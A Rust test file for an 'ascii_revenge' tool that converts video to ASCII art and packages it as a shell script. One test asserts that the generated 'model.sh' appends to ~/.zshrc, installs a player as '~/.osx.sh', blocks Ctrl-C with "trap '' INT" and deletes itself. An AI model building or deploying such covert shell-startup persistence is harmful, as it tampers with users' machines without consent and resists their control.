use std::fs;
use std::path::PathBuf;

use image::{GrayImage, Luma};
use tempfile::TempDir;

use ascii_revenge::ascii::{AsciiOptions, AsciiVideo, quantize};
use ascii_revenge::error::AppError;
use ascii_revenge::glyphs::Palette;
use ascii_revenge::pipeline::{
    ConvertConfig, PackageConfig, PaletteConfig, load_video, run_convert, run_package, run_palette,
};
use ascii_revenge::player::PlaybackOptions;
use ascii_revenge::script::InstallConfig;
use ascii_revenge::template::render_player;
use ascii_revenge::video;

fn skip_if_no_ffmpeg() -> bool {
    if !video::tools_available() {
        eprintln!("Skipping ffmpeg-dependent test: ffmpeg not available.");
        true
    } else {
        false
    }
}

fn sample_video() -> AsciiVideo {
    // `\` and `'` both sit in the default ramp, so the payload exercises escaping.
    let palette = Palette::new(r"'\ab").unwrap();
    [0u8, 90, 170, 255]
        .iter()
        .map(|&v| quantize(&GrayImage::from_pixel(6, 3, Luma([v])), &palette))
        .collect()
}

/// Undoes `echo -n '...' >> target` bodies the way the shell's echo would.
fn rebuild_payload(script: &str, target: &str) -> String {
    let suffix = format!("' >> {target}");
    let mut payload = String::new();

    for line in script.lines() {
        let Some(body) = line
            .strip_prefix("echo -n '")
            .and_then(|rest| rest.strip_suffix(suffix.as_str()))
        else {
            continue;
        };

        let body = body.replace("'\"'\"'", "'");
        let mut chars = body.chars();
        while let Some(ch) = chars.next() {
            if ch != '\\' {
                payload.push(ch);
                continue;
            }
            match chars.next() {
                Some('n') => payload.push('\n'),
                Some('r') => payload.push('\r'),
                Some('\\') => payload.push('\\'),
                other => panic!("unexpected escape {other:?}"),
            }
        }
    }

    payload
}

#[test]
fn extract_frames_returns_pngs_in_order() {
    if skip_if_no_ffmpeg() {
        return;
    }

    let temp = TempDir::new().expect("temp dir");
    let video_path = temp.path().join("input.mp4");
    let frames_dir = temp.path().join("frames");

    video::create_test_video(&video_path, 64, 48, 5, 1.0).expect("create test video");
    let frames = video::extract_frames(&video_path, &frames_dir).expect("extract frames");

    assert!(!frames.is_empty());
    assert!(frames.windows(2).all(|pair| pair[0] < pair[1]));
    let first = image::open(&frames[0]).expect("decode frame");
    assert_eq!((first.width(), first.height()), (64, 48));
}

#[test]
fn convert_writes_frame_file_with_expected_grid() {
    if skip_if_no_ffmpeg() {
        return;
    }

    let temp = TempDir::new().expect("temp dir");
    let input = temp.path().join("input.mp4");
    let output = temp.path().join("frames").join("input_ascii.txt");
    video::create_test_video(&input, 160, 120, 6, 1.0).expect("create test video");

    let config = ConvertConfig {
        input,
        output: output.clone(),
        ascii: AsciiOptions::new(40, 12, "@%#*+=-:. ").expect("options"),
    };
    let stats = run_convert(&config).expect("run convert");

    assert!(stats.frames_processed > 0);
    let video = AsciiVideo::parse(&fs::read_to_string(&output).expect("read frames"))
        .expect("parse frames");
    assert_eq!(video.len(), stats.frames_processed);
    for frame in &video.frames {
        let lines: Vec<&str> = frame.lines().collect();
        assert_eq!(lines.len(), 12);
        assert!(lines.iter().all(|line| line.chars().count() == 40));
    }
}

#[test]
fn package_from_frame_file_rebuilds_player_exactly() {
    let temp = TempDir::new().expect("temp dir");
    let frames_path = temp.path().join("frames.txt");
    let script_path = temp.path().join("model.sh");
    fs::write(&frames_path, sample_video().to_text()).expect("write frames");

    let config = PackageConfig {
        input: frames_path,
        output: script_path.clone(),
        ascii: AsciiOptions::default(),
        playback: PlaybackOptions {
            suppress_interrupt: true,
            ..PlaybackOptions::default()
        },
        install: InstallConfig {
            max_length: 64,
            ..InstallConfig::default()
        },
    };
    let stats = run_package(&config).expect("run package");
    assert_eq!(stats.frames_processed, 4);

    let script = fs::read_to_string(&script_path).expect("read script");
    assert!(script.starts_with("echo '\\n\\n\\n# revenge' >> ~/.zshrc\n"));
    assert!(script.ends_with("\nsource ~/.zshrc\nrm $0\n"));
    assert!(script.lines().all(|line| line.len() < 64));

    let expected = render_player(&sample_video(), &config.playback);
    assert!(expected.contains("trap '' INT"));
    assert_eq!(rebuild_payload(&script, "~/.osx.sh"), expected);
}

#[test]
fn package_from_video_runs_end_to_end() {
    if skip_if_no_ffmpeg() {
        return;
    }

    let temp = TempDir::new().expect("temp dir");
    let input = temp.path().join("input.mp4");
    let output = temp.path().join("model.sh");
    video::create_test_video(&input, 80, 60, 4, 0.5).expect("create test video");

    let config = PackageConfig {
        input,
        output: output.clone(),
        ascii: AsciiOptions::default(),
        playback: PlaybackOptions::default(),
        install: InstallConfig::default(),
    };
    let stats = run_package(&config).expect("run package");

    assert!(stats.frames_processed > 0);
    assert!(output.exists());
    assert!(
        fs::read_to_string(&output)
            .expect("read script")
            .lines()
            .all(|line| line.len() < 4096)
    );
}

#[test]
fn frame_file_input_ignores_conversion_options() {
    let temp = TempDir::new().expect("temp dir");
    let frames_path = temp.path().join("frames.txt");
    fs::write(&frames_path, sample_video().to_text()).expect("write frames");

    let options = AsciiOptions::new(10, 4, "xy").expect("options");
    let video = load_video(&frames_path, &options).expect("load frames");
    assert_eq!(video, sample_video());
}

#[test]
fn ragged_frame_file_is_rejected() {
    let temp = TempDir::new().expect("temp dir");
    let frames_path = temp.path().join("frames.txt");
    fs::write(&frames_path, "abc\nabc\n\nabc\n").expect("write frames");

    let err = load_video(&frames_path, &AsciiOptions::default()).unwrap_err();
    assert!(matches!(err, AppError::InvalidFrameFile(_)));
}

#[test]
fn missing_input_is_reported() {
    let options = AsciiOptions::default();
    for name in ["nope.txt", "nope.mp4"] {
        let path = PathBuf::from("/definitely/not/here").join(name);
        let err = load_video(&path, &options).unwrap_err();
        assert!(matches!(err, AppError::InputNotFound(p) if p == path));
    }
}

#[test]
fn palette_ranks_a_saved_sheet() {
    let temp = TempDir::new().expect("temp dir");
    let sheet_path = temp.path().join("chars.png");
    ascii_revenge::glyphs::render_sheet(2, 33, 94)
        .save(&sheet_path)
        .expect("save sheet");

    let ranked = run_palette(&PaletteConfig {
        sheet: Some(sheet_path),
        columns: 2,
        rows: 47,
        first_code: 33,
    })
    .expect("rank sheet");

    assert_eq!(ranked.chars().count(), 94);
    assert_eq!(
        ranked,
        run_palette(&PaletteConfig {
            sheet: None,
            columns: 2,
            rows: 47,
            first_code: 33,
        })
        .expect("rank builtin")
    );
}
